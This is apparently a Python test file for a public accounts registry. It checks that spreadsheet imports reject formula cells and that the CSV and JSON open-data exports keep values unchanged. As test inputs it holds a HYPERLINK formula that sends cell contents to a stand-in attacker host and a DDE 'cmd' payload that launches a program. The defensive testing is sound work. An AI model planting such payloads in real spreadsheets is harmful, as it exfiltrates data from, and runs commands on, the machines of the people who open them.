"""CSV injection: imports refuse formula cells; the public CSV, for programs, carries the data as
it is (the spreadsheet download runs no formula: tests/test_open_data_spreadsheet.py)."""

import csv
import io
import json
from pathlib import Path

import pytest

from registry.models import Status
from tests.conftest import content_of

ROOT = Path(__file__).resolve().parent.parent
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")'


def test_the_public_csv_carries_every_value_as_it_is(client, make_entry):
    """The CSV is for programs: a handle that starts with `@` is read as `@gouvinfotv`."""
    entry = make_entry(Status.VERIFIED, display_name=HYPERLINK, team_name="@équipe")
    youtube = make_entry(Status.VERIFIED, platform="youtube", handle="@gouvinfotv")
    rows = list(
        csv.DictReader(io.StringIO(content_of(client.get("/open-data/accounts.csv")).decode()))
    )
    row = next(row for row in rows if row["id"] == str(entry.pk))
    assert row["display_name"] == HYPERLINK
    assert row["team_name"] == "@équipe"
    assert next(row for row in rows if row["id"] == str(youtube.pk))["handle"] == "@gouvinfotv"


def test_the_public_json_keeps_the_values_as_they_are(client, make_entry):
    entry = make_entry(Status.VERIFIED, display_name=HYPERLINK)
    data = json.loads(content_of(client.get("/open-data/accounts.json")))
    assert [a["display_name"] for a in data["accounts"] if a["id"] == entry.pk] == [HYPERLINK]


@pytest.mark.parametrize("cell", ["=cmd|' /C calc'!A0", "+1", "-1", "@x", " =1"])
def test_the_workspace_import_refuses_a_formula_cell(client, editor, service_a, cell):
    from django.core.files.uploadedfile import SimpleUploadedFile

    header = "link,display_name,service,team_name,team_email,languages\n"
    row = f'https://x.com/formula,"{cell}",contributions,Com,a@mfin.example.org,fr\n'
    upload = SimpleUploadedFile("accounts.csv", (header + row).encode(), "text/csv")
    client.force_login(editor)
    page = client.post("/en/workspace/import/", {"file": upload}).content.decode()
    assert "cells may not start with = + - @" in page
